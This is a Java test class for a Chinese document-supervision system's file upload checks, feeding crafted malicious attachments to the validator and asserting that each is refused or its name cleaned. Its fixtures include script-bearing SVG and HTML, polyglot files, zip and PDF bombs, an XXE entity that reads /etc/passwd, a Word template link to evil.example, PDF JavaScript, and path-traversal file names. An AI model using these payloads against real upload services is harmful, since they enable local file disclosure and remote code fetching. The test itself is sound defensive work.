package lianxi.document.attachment;

import static lianxi.document.attachment.Specimens.joined;
import static lianxi.document.attachment.Specimens.utf8;
import static lianxi.document.attachment.Specimens.with;
import static lianxi.document.attachment.Specimens.wordParts;
import static lianxi.document.attachment.Specimens.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import lianxi.shared.RefusedException;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.MessageSource;
import org.springframework.core.io.ClassPathResource;
import org.springframework.validation.BindException;
import org.springframework.validation.BindingResult;
import org.springframework.web.multipart.MultipartFile;

/** The doors for files that supervision opened, against supervision-upload-attacks.csv. */
class SupervisionUploadsTest extends AttachmentLab {

    private static final String TABLE = "supervision-upload-attacks.csv";

    private static final String TAKEN = "-";

    @Autowired
    MessageSource messages;

    static Stream<Arguments> attacks() {
        List<String[]> rows = table();
        String[] head = rows.get(0);
        return rows.stream()
                .skip(1)
                .flatMap(row -> IntStream.range(2, head.length)
                        .mapToObj(column -> Arguments.of(
                                row[0],
                                row[1].replace("{RLO}", "\u202E"),
                                AttachmentFeature.valueOf(head[column]),
                                row[column])));
    }

    @ParameterizedTest(name = "{0} as {1} at {2}: {3}")
    @MethodSource
    void attacks(String attack, String name, AttachmentFeature door, String expected) {
        MultipartFile file = file(name, content(attack));
        if (expected.equals(TAKEN)) {
            assertThat(attachments.stage(mine, door, List.of(file), List.of())).hasSize(1);
            return;
        }
        assertThatExceptionOfType(RefusedException.class)
                .isThrownBy(() -> attachments.stage(mine, door, List.of(file), List.of()))
                .satisfies(refused -> {
                    assertThat(refused.messageKey()).isEqualTo("document.attachment." + expected);
                    assertThat(refused.field()).isEqualTo("files");
                    assertThat(sentence(refused)).contains("“").endsWith("。");
                });
        assertThat(stagedFiles()).as("nothing of it is kept").isZero();
    }

    /** Every door that was opened for supervision is in the table: a further one needs a column. */
    @Test
    void theTableHasEveryDoor() {
        assertThat(Arrays.stream(table().get(0)).skip(2))
                .containsExactlyInAnyOrderElementsOf(Stream.of(AttachmentFeature.values())
                        .map(Enum::name)
                        .filter(name -> name.matches("(FINDING|REFERRAL|INSPECTION|TALK|PROPOSAL|SUPERVISION)_.*"))
                        .toList());
    }

    /** What a browser calls a file never says where it is kept; folders, letters of Windows' and inner endings go. */
    @ParameterizedTest
    @CsvSource({
        "../../../etc/cron.d/记录.pdf, 记录.pdf",
        "C:\\Users\\督查\\记录.pdf, 记录.pdf",
        "记录.exe.pdf, 记录_exe.pdf",
        "记录<script>.pdf, 记录_script_.pdf",
        "con.pdf, _con.pdf"
    })
    void aNameIsCleaned(String sent, String kept) {
        AttachmentId id = attachments
                .stage(mine, AttachmentFeature.FINDING_EVIDENCE, List.of(file(sent, Specimens.pdf())), List.of())
                .get(0);
        assertThat(jdbc.sql("select file_name from document_attachment where id = ?")
                        .param(id.value())
                        .query(String.class)
                        .single())
                .isEqualTo(kept);
    }

    @ParameterizedTest
    @EnumSource(
            names = {"FINDING_EVIDENCE", "FINDING_REPLY", "REFERRAL_EVIDENCE", "REFERRAL_RECEIPT", "INSPECTION_PHOTO"})
    void oneTooManyIsRefusedAndTheOthersAreKept(AttachmentFeature door) {
        AttachedFiles files = new AttachedFiles(door);
        files.setFresh(Collections.nCopies(door.maxFiles() + 1, file("记录.pdf", Specimens.pdf())));
        BindingResult binding = new BindException(files, "files");
        attachments.stage(mine, files, binding);
        assertThat(binding.getErrorCount()).isEqualTo(1);
        assertThat(binding.getAllErrors().get(0).getDefaultMessage()).isEqualTo("document.attachment.too-many");
        assertThat(files.ids()).hasSize(door.maxFiles());
    }

    private long stagedFiles() {
        return jdbc.sql("select count(*) from document_attachment where account_id = ?")
                .param(account)
                .query(Long.class)
                .single();
    }

    private String sentence(RefusedException refused) {
        return messages.getMessage(refused.messageKey(), refused.arguments(), Locale.CHINA);
    }

    private static byte[] content(String attack) {
        return switch (attack) {
            case "pdf" -> Specimens.pdf();
            case "jpeg" -> Specimens.jpeg();
            case "png" -> Specimens.png();
            case "docx" -> Specimens.docx();
            case "xlsx" -> Specimens.xlsx();
            case "ofd" -> Specimens.ofd();
            case "svg" -> utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
            case "page" -> utf8("<!DOCTYPE html><html><script>alert(1)</script></html>");
            case "pdf-zip" -> joined(Specimens.pdf(), Specimens.docx());
            case "page-pdf" -> joined(utf8("<html><script>alert(1)</script>"), Specimens.pdf());
            case "jpeg-zip" -> joined(Specimens.jpeg(), Specimens.docx());
            case "jpeg-page" -> joined(Specimens.jpeg(), utf8("<script>alert(1)</script>"));
            case "png-zip" -> joined(Specimens.png(), Specimens.docx());
            case "program" -> joined(new byte[] {'M', 'Z', (byte) 0x90, 0}, new byte[300]);
            case "half-pdf" -> Arrays.copyOf(Specimens.pdf(), Specimens.pdf().length / 2);
            case "pdf-bomb" -> Specimens.pdfWithPart(65);
            case "zip-bomb" -> with(wordParts(), "word/media/a.png", new byte[17 * 1024 * 1024]);
            case "many-parts" -> zip(manyParts());
            case "huge-picture" -> Specimens.pngThatSays(30_000, 30_000);
            case "macro" -> zip(macros());
            case "control" -> with(wordParts(), "word/activeX/activeX1.xml", utf8("<a/>"));
            case "entity" ->
                with(
                        wordParts(),
                        "word/styles.xml",
                        utf8("<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w>&x;</w>"));
            case "template" ->
                with(
                        wordParts(),
                        "word/_rels/document.xml.rels",
                        Specimens.relations(
                                "<Relationship Id=\"r9\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
                                        + "2006/relationships/attachedTemplate\" Target=\"https://evil.example/a.dotm\""
                                        + " TargetMode=\"External\"/>"));
            case "climbing-part" -> with(wordParts(), "../../a.png", utf8("a"));
            case "pdf-script" ->
                Specimens.pdf(doc -> doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("x()")));
            case "pdf-file" ->
                Specimens.pdf(doc -> {
                    COSDictionary file = new COSDictionary();
                    file.setItem(COSName.EF, new COSDictionary());
                    doc.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("AF"), file);
                });
            case "pdf-password" -> Specimens.pdfWithPassword("secret");
            case "old-office" -> joined(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, new byte[600]);
            case "zip" -> zip(Map.of("a.txt", utf8("a")));
            case "empty" -> new byte[0];
            case "too-large" -> new byte[20 * 1024 * 1024 + 1];
            default -> throw new IllegalArgumentException(attack);
        };
    }

    private static Map<String, byte[]> macros() {
        Map<String, byte[]> parts = new LinkedHashMap<>(wordParts());
        parts.put(
                "[Content_Types].xml",
                Specimens.contentTypes("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"));
        return parts;
    }

    private static Map<String, byte[]> manyParts() {
        Map<String, byte[]> parts = new LinkedHashMap<>(wordParts());
        IntStream.range(0, 3000).forEach(n -> parts.put("word/media/" + n, new byte[1]));
        return parts;
    }

    private static List<String[]> table() {
        try {
            return new ClassPathResource(TABLE)
                    .getContentAsString(StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.isBlank() && !line.startsWith("#"))
                    .map(line -> line.split(",\\s*"))
                    .toList();
        } catch (IOException missing) {
            throw new UncheckedIOException(missing);
        }
    }
}
